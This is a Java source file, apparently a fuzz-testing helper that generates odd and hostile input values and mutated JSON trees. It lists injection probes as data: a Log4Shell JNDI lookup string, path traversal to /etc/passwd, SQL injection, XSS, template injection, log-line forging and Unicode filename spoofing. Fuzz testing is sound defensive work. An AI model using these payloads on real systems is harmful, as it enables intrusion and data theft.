package dev.ringback.attack;

import dev.ringback.standins.Json;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.random.RandomGenerator;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Values that nobody in their right mind sends. */
final class OddValues {

    /** Would stand at the beginning of a line of a log, if somebody could make one begin. */
    static final String FORGED = "FORGED-LINE";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\t",
            "\u0000",
            "\n" + FORGED,
            "\r\n" + FORGED + ": all is well",
            "\u2028" + FORGED,
            "\u001b[2J\u001b[31mred",
            "\u0007\u0008\u007f\u0085\u009b",
            "\u202egnp.exe\u202c",
            "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
            "\u200bzero\u200cwidth\u200d\ufeff",
            "\ud800",
            "\udfff\ud800",
            "\udb40\udc01\udb40\udc41",
            "n\u0303and\u00fa \u05d1\u05d5\u05e7\u05e8",
            "\ud83d\udc69\u200d\u2695\ufe0f",
            "null",
            "undefined",
            "true",
            "-1",
            "1e999999",
            "NaN",
            "0x41",
            "../../../etc/passwd",
            "..%2f..%2f",
            "%00",
            "%",
            "%zz",
            "${jndi:ldap://192.0.2.1/a}",
            "{{7*7}}",
            "' OR '1'='1",
            "<script>alert(1)</script>",
            "\"}, {\"a\": \"",
            "\\",
            "\\u0000",
            "#pk",
            "directory",
            "oak-street#+13105550123",
            "request#pat@sunrise.example",
            "+13105550123",
            "2026-02-31T09:30-05:00",
            "+999999999-01-01T00:00:00Z",
            "0000-00-00T00:00:00Z",
            "1970-01-01T00:00:00Z",
            "2099-12-31T23:59:60Z",
            "9999-12-31T23:59:59.999999999-18:00",
            "-9999-01-01T00:00:00+18:00");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1.5",
            "2147483648",
            "-9223372036854775809",
            "99999999999999999999999999999999999999999999",
            "1e400",
            "-1e-400",
            "1e9999999999");

    private static final int LONG = 10_000;
    private static final int DEEP = 200;

    private OddValues() {}

    static <T> T any(List<T> of, RandomGenerator random) {
        return of.get(random.nextInt(of.size()));
    }

    static String text(RandomGenerator random) {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(random.nextInt(1, LONG));
            case 1 -> "\u00f1".repeat(random.nextInt(1, 2000));
            case 2 -> any(TEXTS, random) + any(TEXTS, random);
            case 3 -> "ab" + any(TEXTS, random) + "cd";
            case 4 -> characters(random);
            default -> any(TEXTS, random);
        };
    }

    private static String characters(RandomGenerator random) {
        StringBuilder text = new StringBuilder();
        for (int i = random.nextInt(1, 20); i > 0; i--) {
            text.appendCodePoint(random.nextInt(random.nextBoolean() ? 0x100 : Character.MAX_CODE_POINT + 1));
        }
        return text.toString();
    }

    /** JSON of any kind, as it would be written. */
    static String json(RandomGenerator random) {
        return switch (random.nextInt(8)) {
            case 0 -> "null";
            case 1 -> random.nextBoolean() ? "true" : "false";
            case 2 -> any(NUMBERS, random);
            case 3 -> "[]";
            case 4 -> "{}";
            case 5 -> "[" + json(random) + ", " + json(random) + "]";
            case 6 -> "{\"a\": " + json(random) + ", \"email\": " + json(random) + "}";
            default -> Json.write(JsonNodeFactory.instance.stringNode(text(random)));
        };
    }

    /** The same, read: numbers that no double holds are left out. */
    static JsonNode node(RandomGenerator random) {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        return switch (random.nextInt(8)) {
            case 0 -> nodes.nullNode();
            case 1 -> nodes.booleanNode(random.nextBoolean());
            case 2 -> nodes.numberNode(random.nextLong());
            case 3 -> nodes.arrayNode().add(node(random));
            case 4 -> nodes.objectNode().set("a", node(random));
            default -> nodes.stringNode(text(random));
        };
    }

    static String nested(RandomGenerator random) {
        int depth = random.nextInt(1, DEEP * 100);
        return switch (random.nextInt(3)) {
            case 0 -> "[".repeat(depth);
            case 1 -> "{\"note\":".repeat(depth) + "1" + "}".repeat(depth);
            default -> "{\"note\": " + "[".repeat(depth) + "]".repeat(depth) + "}";
        };
    }

    /** One thing in the tree is another: gone, null, of another type, odd, or there twice in another case. */
    static JsonNode changed(JsonNode tree, RandomGenerator random) {
        JsonNode copy = tree.deepCopy();
        List<Runnable> changes = new ArrayList<>();
        collect(copy, changes, random);
        if (changes.isEmpty()) {
            return node(random);
        }
        any(changes, random).run();
        return copy;
    }

    private static void collect(JsonNode node, List<Runnable> changes, RandomGenerator random) {
        if (node instanceof ObjectNode object) {
            for (Map.Entry<String, JsonNode> field : List.copyOf(object.properties())) {
                changes.add(() -> change(object, field.getKey(), field.getValue(), random));
                collect(field.getValue(), changes, random);
            }
        }
        if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                int index = i;
                changes.add(() -> array.set(index, node(random)));
                collect(array.get(i), changes, random);
            }
        }
    }

    private static void change(ObjectNode object, String name, JsonNode value, RandomGenerator random) {
        switch (random.nextInt(6)) {
            case 0 -> object.remove(name);
            case 1 -> object.putNull(name);
            case 2 -> object.put(name, text(random));
            case 3 -> object.set(name.toUpperCase(Locale.ROOT), value);
            default -> object.set(name, node(random));
        }
    }
}
